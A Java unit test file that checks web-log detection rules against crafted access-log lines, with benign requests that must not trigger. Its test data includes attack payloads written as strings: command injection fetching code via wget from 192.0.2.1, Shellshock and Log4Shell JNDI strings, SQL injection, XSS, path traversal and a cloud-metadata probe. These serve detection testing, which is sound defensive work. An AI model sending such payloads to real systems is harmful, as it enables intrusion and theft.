package io.gabion.node.rules;

import static org.assertj.core.api.Assertions.assertThat;

import io.gabion.detectors.sigma.RulePack;
import io.gabion.detectors.sigma.RuleRun;
import io.gabion.detectors.sigma.match.LogSources;
import io.gabion.detectors.sigma.rule.LogSource;
import io.gabion.detectors.sigma.rule.SigmaRule.Correlation;
import io.gabion.node.parse.Formats;
import io.gabion.node.parse.Parsed;
import io.gabion.protocol.observation.Source;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WebRulesTest {
    private static final RulePack PACK = pack();
    private static final RuleRun RUN = new RuleRun(PACK, LogSources.bundled(), LogSource.ANY);
    /** With those that speak through a correlation only. */
    private static final RuleRun ALL = new RuleRun(
            new RulePack(PACK.detections(), PACK.correlations(), Set.of(), List.of(), PACK.files(), List.of()),
            LogSources.bundled(),
            LogSource.ANY);

    private static RulePack pack() {
        try {
            return RulePack.of(OwnRules.files(), RuleContext.placeholders(null));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static List<String> fired(String line) {
        return fired(RUN, line);
    }

    private static List<String> fired(RuleRun rules, String line) {
        var bytes = line.getBytes(StandardCharsets.UTF_8);
        var parsed = Formats.detect(bytes, Instant.parse("2026-03-10T12:00:00Z"), "access.log")
                .parse(new Source("access.log", 1), bytes, 0, bytes.length);
        assertThat(parsed).isInstanceOf(Parsed.Seen.class);
        return rules.hits(((Parsed.Seen) parsed).observation()).stream()
                .map(hit -> hit.rule().title())
                .toList();
    }

    private static String line(String method, String target, String status, String agent) {
        return "203.0.113.7 - - [01/Mar/2026:10:00:00 +0000] \"" + method + " " + target + " HTTP/1.1\" " + status
                + " 5 \"-\" \"" + agent + "\"";
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Scanner Names Itself|GET|/|200|Mozilla/5.00 (Nikto/2.1.6)",
                "Request Carries the Address of a Callback|GET|/?u=abc.oast.fun|200|x",
                "Web Shell Is Looked For|GET|/uploads/c99.php|404|x",
                "Sensitive File Is Looked For|GET|/.git/config|404|x",
                "Sensitive File Is Looked For|GET|/wp-config.php.bak|403|x",
                "Request Leaves Its Folder|GET|/a/..%2f..%2fb|404|x",
                "Request Leaves Its Folder|GET|/%2fetc%2fpasswd|404|x",
                "Request Carries SQL|GET|/?id=1%20UNION%20SELECT%201|200|x",
                "Request Carries a Script|GET|/?q=%3Cscript%3E|200|x",
                "Request Carries a Command|GET|/?x=;wget+http://192.0.2.1/a|404|x",
                "Request Carries a Command|GET|/|200|() { :; }; /bin/bash",
                "Command in a Request Is Answered|GET|/a.cgi?cmd=wget+http://192.0.2.1/a|200|x",
                "Request Carries an Expression|GET|/|200|${jndi:ldap://192.0.2.1/a}",
                "Request Carries an Expression|GET|/?x=%24%7Bscript%3Ajs|404|x",
                "Request Makes PHP Read or Run Something|POST|/?a=php://input|404|x",
                "Request Names a File of Another Server|GET|/a.php?p=http://192.0.2.1/x.txt|404|x",
                "Request Asks for What Only the Server Reaches|GET|/?u=http://169.254.169.254/|200|x",
                "Others Use the Server as a Proxy|CONNECT|192.0.2.1:443|405|x",
                "Others Use the Server as a Proxy|GET|http://www.example.org/|404|x",
                "Known Way into a Remote Access Gateway Is Tried|GET|/remote/fgt_lang?lang=a|404|x",
                "Known Way into a Router or a Camera Is Tried|POST|/GponForm/diag_Form|404|x",
                "Known Way into a Server of Java Is Tried|GET|/actuator/env|404|x",
                "Known Way into a Server of Microsoft Is Tried|GET|/autodiscover/autodiscover.json?@x|404|x",
                "Known Way into a Page of PHP Is Tried|GET|/remote_agent.php?action=polldata|404|x",
                "Question Mark Is Hidden in a Path|GET|/a%3fb|404|x",
                "Programs in cgi-bin Are Looked For|GET|/cgi-bin/a|404|x",
                "Place for Tests of Servers Is Looked For|GET|/nmaplowercheck17|404|x",
            })
    void each_rule_speaks_of_its_request(String title, String method, String target, String status, String agent) {
        assertThat(fired(line(method, target, status, agent))).contains(title);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "GET|/|200|Mozilla/5.0 (X11; Linux x86_64; rv:105.0) Gecko/20100101 Firefox/105.0",
                "GET|/index.php?page=2&next=https%3A%2F%2Fwww.example.org%2Fa|200|Mozilla/5.0",
                "GET|/select-your-union.html|200|Mozilla/5.0",
                "GET|/docs/command-line/wget.html|200|Mozilla/5.0",
                "GET|/js/script.js|304|Mozilla/5.0",
                "GET|/.well-known/acme-challenge/x|200|Mozilla/5.0",
                "POST|/api/v1/orders|201|curl/8.0",
                "GET|/roundcube/?_task=mail|200|Mozilla/5.0",
                "GET|/zabbix.php?action=dashboard.view|200|Mozilla/5.0",
                "GET|/a/...more|200|Mozilla/5.0",
                "PROPFIND|/remote.php/dav/files/ann/|207|Mozilla/5.0",
            })
    void what_people_and_programs_ask_for_all_day_is_silent(String method, String target, String status, String agent) {
        assertThat(fired(line(method, target, status, agent))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Mar  1 10:00:00 mx postfix/smtpd[7]: NOQUEUE: reject: RCPT from unknown[203.0.113.7]: 454 4.7.1 <a@x.example>: Relay access denied; from=<>",
                "Mar  1 10:00:00 mx postfix/smtpd[7]: warning: non-SMTP command from unknown[203.0.113.7]: GET / HTTP/1.1",
                "01-Mar-2026 10:00:00.000 client @0x7f65 203.0.113.7#3076 (x.example): zone transfer 'x.example/AXFR/IN' denied",
                "2026-03-01 10:00:00 panel: login from 203.0.113.7 denied, too many attempts",
            })
    void a_refusal_that_says_enough_speaks_alone(String line) {
        assertThat(fired(line)).hasSize(1);
    }

    @Test
    void what_is_only_counted_is_counted_by_address() {
        var counted = new HashSet<String>();
        for (var line : List.of(
                line("GET", "/a", "404", "x"),
                line("POST", "/wp-login.php", "200", "x"),
                line("POST", "/xmlrpc.php", "200", "x"),
                line("POST", "/users/sign_in", "200", "x"),
                line("GET", "/?author=1", "200", "x"),
                line("GET", "/phpmyadmin/", "404", "x"),
                line("GET", "/site.tar.gz", "404", "x"),
                line("GET", "/", "401", "x"),
                line("GET", "/.env", "404", "x"),
                "203.0.113.7 - - [01/Mar/2026:10:00:00 +0000] \"\\x16\\x03\" 400 5")) {
            counted.addAll(fired(ALL, line));
        }
        var names = PACK.detections().stream()
                .filter(rule -> counted.contains(rule.meta().title()))
                .map(rule -> rule.meta().id())
                .toList();
        var web = PACK.correlations().stream()
                .filter(rule -> rule.groupBy().equals(List.of("c-ip")))
                .toList();
        assertThat(web).hasSizeGreaterThan(10);
        assertThat(web).flatExtracting(Correlation::rules).allMatch(names::contains);
    }
}
